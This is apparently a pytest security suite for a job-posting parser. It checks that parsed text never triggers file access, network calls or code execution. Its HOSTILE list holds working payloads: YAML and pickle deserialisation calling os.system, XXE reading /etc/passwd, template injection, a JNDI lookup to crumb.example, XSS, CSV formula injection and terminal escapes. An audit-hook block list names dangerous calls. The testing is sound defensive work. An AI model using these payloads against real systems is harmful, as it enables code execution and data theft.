"""Nothing in a text makes the package open a file, reach for the network, start a process or run code."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

import jobparse
from jobparse.adapters.terminal import safe

ROOT = Path(__file__).parent.parent

# The first time round, libraries are imported and their own data is read; the second time round, nothing may happen.
AUDITED = """\
import sys
sys.path.insert(0, {root!r})
import jobparse
from fuzz.seeds import seeds
from tests.test_security import HOSTILE

NEVER = ("socket.", "subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork", "os.remove",
         "os.mkdir", "urllib.", "http.", "ftplib.", "smtplib.", "ctypes.", "webbrowser.", "pty.", "shutil.", "sqlite3.")
INPUT = ("open", "exec", "compile", "import", "pickle.", "os.listdir", "os.scandir", "marshal.", "glob.")
found, settled = set(), False

def note(event, arguments):
    writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
    if event.startswith(NEVER) or writes or (settled and event.startswith(INPUT)):
        found.add((event, str(arguments)[:200]))

texts = [*list(seeds())[::25], *HOSTILE]
sys.addaudithook(note)
for settled in (False, True):
    for text in texts:
        for form in (None, "html", "mail"):
            jobparse.parse(text, format=form).to_json()
    for text in texts:
        jobparse.parse_record({{"title": text[:50], "description": text, "url": text[:90]}})
settled = False
assert not found, found
"""

HOSTILE = [
    "---\n!!python/object/apply:os.system [touch /tmp/crumb]\n---\n",
    "---\ntitle: !!python/object/apply:subprocess.check_output [[id]]\n---\nBaker",
    "---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\ntitle: Baker\n---\n",
    "---\ntitle: !include /etc/passwd\n---\n",
    "---\n<<: !!python/name:os.system\n---\n",
    '{"title": "__import__(\'os\').system(\'id\')", "$ref": "file:///etc/passwd"}',
    "+++\ntitle = \"{{ self.__init__.__globals__ }}\"\n+++\n{{ config }} ${jndi:ldap://crumb.example/a} {% include '/etc/passwd' %}",
    '<!DOCTYPE html [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><html><p>&c;&b;</p>',
    '<html><script src="https://crumb.example/x.js">fetch("/")</script><img src=x onerror=alert(1)><iframe src="file:///etc">',
    '<html><link rel=stylesheet href="http://127.0.0.1/"><meta http-equiv=refresh content="0;url=http://crumb.example/">',
    '<script type="application/ld+json">{"@type": "JobPosting", "@context": "http://127.0.0.1:1/", "title": "Baker"}</script>',
    "From: a@crumb.example\nTo: b@crumb.example\nSubject: Baker\nContent-Type: message/external-body; access-type=url;\n URL=\"http://127.0.0.1/\"\n\nBody",
    "MIME-Version: 1.0\nFrom: a@crumb.example\nSubject: =?utf-8?b?4oCu?= Baker\nContent-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-",
    "Apply at file:///etc/passwd or \\\\crumb.example\\share\\x or javascript:alert(1) or data:text/html,x",
    "cos\nsystem\n(S'id'\ntR.",
    "gASVEgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg==",
    "=cmd|'/c calc'!A1\n@SUM(1+1)*cmd|' /C calc'!A0\n+1\n-1",
    "Baker \x1b]0;title\x07\x1b[2J\x1b[31m \x9b31m \u202eelpmaxe.bmurc\u202c",
]  # fmt: skip


def test_no_text_makes_anything_happen() -> None:
    # -B: what is compiled on the way is not written to a file.
    call = [sys.executable, "-I", "-B", "-c", AUDITED.format(root=str(ROOT))]
    done = subprocess.run(call, capture_output=True, text=True, timeout=300, check=False)  # noqa: S603
    assert done.returncode == 0, done.stderr[-3000:]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_link_of_another_kind_than_the_web_is_given(text: str) -> None:
    link = jobparse.parse(text).apply_url
    assert link is None or link.startswith(("http://", "https://", "www.", "mailto:")) or ":" not in link.split("/")[0]


@pytest.mark.parametrize("control", ["\x1b[2J", "\x9b31m", "\x07", "\r", "\x08", "\u202e", "\u2066", "\u200f", "\x00"])
def test_nothing_that_a_terminal_obeys_is_shown(control: str) -> None:
    assert control[0] not in safe(f"Night {control} Baker")


def test_entities_of_a_document_type_are_not_expanded() -> None:
    posting = jobparse.parse(HOSTILE[7] + "<h1>Baker</h1>")
    assert "root:" not in posting.text
    assert "xxx" not in posting.text
